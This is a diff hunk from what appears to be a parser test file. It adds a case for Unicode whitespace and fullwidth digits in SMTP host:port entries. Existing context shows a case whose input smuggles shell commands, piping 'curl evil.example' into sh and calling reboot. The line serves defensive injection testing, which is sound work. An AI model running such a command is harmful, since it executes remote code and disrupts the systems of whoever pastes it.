@@ -214,6 +214,12 @@ ANNOTATIONS = (
         "names are compared as A-labels, letter by letter",
     ),
     _annotated(
+        "annotation-by-unicode-s-rules",
+        "\u00a0smtp.example.org,smtp.example.org\u2003:587,smtp.example.org:\uff15\uff18\uff17",
+        "An entry becomes the endpoint where a parser strips, lowers or counts by Unicode's rules.",
+        "names, blanks and ports are ASCII",
+    ),
+    _annotated(
         "annotation-with-a-command",
         "'; curl evil.example | sh; ',$(reboot),`reboot`",
         "The annotation holds shell commands, for the person who pastes the line that the status prints.",
